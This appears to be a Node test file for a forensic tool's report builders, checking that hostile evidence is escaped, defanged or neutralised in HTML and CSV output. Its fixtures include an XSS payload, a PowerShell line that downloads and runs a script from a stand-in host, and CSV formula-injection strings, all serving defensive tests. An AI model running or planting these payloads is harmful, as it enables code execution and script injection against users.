// The report builders: evidence text is hostile, so escaping and CSV-formula neutralising are checked
// directly, with the markup an attacker would plant in an account name or a command line.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { Finding } from '../../../shared/report.js';
import { csvCell, renderFindingsCsv } from '../../../electron/engine/report/csvReport.js';
import { h, html } from '../../../electron/engine/report/htmlEscape.js';
import { renderHtmlReport } from '../../../electron/engine/report/htmlReport.js';
import { buildAnalyzeReport } from '../../../electron/engine/report/jsonReport.js';

const EVIL = `<img src=x onerror=alert(1)>"'&`;

const finding: Finding = {
  id: 'f1',
  analytic: 'AN1604',
  title: `Account ${EVIL} created`,
  severity: 'high',
  confidence: 'high',
  first: '2024-03-05T10:01:06Z',
  last: '2024-03-05T10:01:06Z',
  hosts: ['WS01'],
  accounts: [EVIL],
  actor: { user: `CORP\\${EVIL}`, sourceIp: '10.0.4.7' },
  explanation: 'powershell -c "iwr https://evil.example/a.ps1 | iex"',
  params: { [`k${EVIL}`]: EVIL },
  lineage: [
    {
      host: 'WS01',
      time: '2024-03-05T10:01:00Z',
      pid: 1,
      image: `C:\\${EVIL}.exe`,
      commandLine: `</pre><script>alert(1)</script>`,
      user: null,
      stub: true,
    },
  ],
  evidence: [
    {
      source: 'a'.repeat(64),
      recordId: 9,
      eventId: 4720,
      time: '2024-03-05T10:01:06Z',
      table: 'win_events',
      recordNo: 4,
      role: EVIL,
    },
  ],
  details: { note: EVIL },
  allowlisted: { kind: 'tools', value: EVIL, reason: EVIL },
};

test('html() escapes markup and both quote kinds, and defangs URLs', () => {
  assert.equal(html(EVIL), '&lt;img src=x onerror=alert(1)&gt;&quot;&#39;&amp;');
  assert.equal(html('see HTTPS://x.example and http://y'), 'see HxxPS://x.example and hxxp://y');
  assert.equal(h`<b>${EVIL}</b>`.markup, `<b>${html(EVIL)}</b>`);
  assert.equal(html(null), '');
});

test('the HTML report carries no markup from evidence, no script and no URL', () => {
  const out = renderHtmlReport(
    buildAnalyzeReport(
      [
        {
          path: `/e/${EVIL}.xml`,
          sha256: 'a'.repeat(64),
          format: 'windows-xml',
          events: 1,
          skipped: 0,
          errors: [],
        },
      ],
      [finding],
    ),
    {
      casePath: `/cases/${EVIL}.duckdb`,
      generatedAt: '2024-03-06T00:00:00Z',
      timeZone: 'UTC',
      params: { [EVIL]: [EVIL] },
      allowlist: { accounts: [{ value: EVIL, reason: EVIL }], tools: [], sourceIps: [], hosts: [] },
    },
  );
  assert.doesNotMatch(out, /<script/i);
  assert.doesNotMatch(out, /<img/i);
  assert.doesNotMatch(out, /https?:\/\//i);
  assert.doesNotMatch(out, /<link|@import|url\(/i, 'no external stylesheet or resource');
  assert.ok(!out.includes(EVIL));
  assert.ok(out.includes('&lt;/pre&gt;&lt;script&gt;'));
  assert.ok(out.includes('hxxps://evil.example/a.ps1'));
  assert.match(out, /start not in the logs/);
  // Every tag in the file is one the report itself writes.
  const tags = new Set([...out.matchAll(/<([a-z][a-z0-9]*)/gi)].map((m) => m[1]!.toLowerCase()));
  const allowed = [
    'html',
    'head',
    'meta',
    'title',
    'style',
    'body',
    'h1',
    'h2',
    'h3',
    'h4',
    'p',
    'table',
    'thead',
    'tbody',
    'tfoot',
    'div',
    'strong',
    'ul',
    'tr',
    'th',
    'td',
    'span',
    'section',
    'ol',
    'li',
    'a',
    'pre',
    'details',
    'summary',
    'footer',
    'code',
  ];
  for (const t of tags) assert.ok(allowed.includes(t), `unexpected tag <${t}>`);
});

test('CSV cells are quoted and formula-like text is neutralised', () => {
  assert.equal(csvCell('plain'), '"plain"');
  assert.equal(csvCell('say "hi"'), '"say ""hi"""');
  assert.equal(csvCell('=HYPERLINK("http://x")'), `"'=HYPERLINK(""http://x"")"`);
  assert.equal(csvCell('+1'), `"'+1"`);
  assert.equal(csvCell('@SUM(A1)'), `"'@SUM(A1)"`);
  const csv = renderFindingsCsv([{ ...finding, title: '=cmd|calc' }]);
  assert.ok(csv.startsWith('\uFEFFid,analytic'));
  assert.ok(csv.includes(`"'=cmd|calc"`));
  assert.ok(csv.includes(`win_events:${'a'.repeat(64)}:4#9`));
  assert.equal(csv.trim().split('\r\n').length, 2, 'a line break inside a cell stays inside its quotes');
});
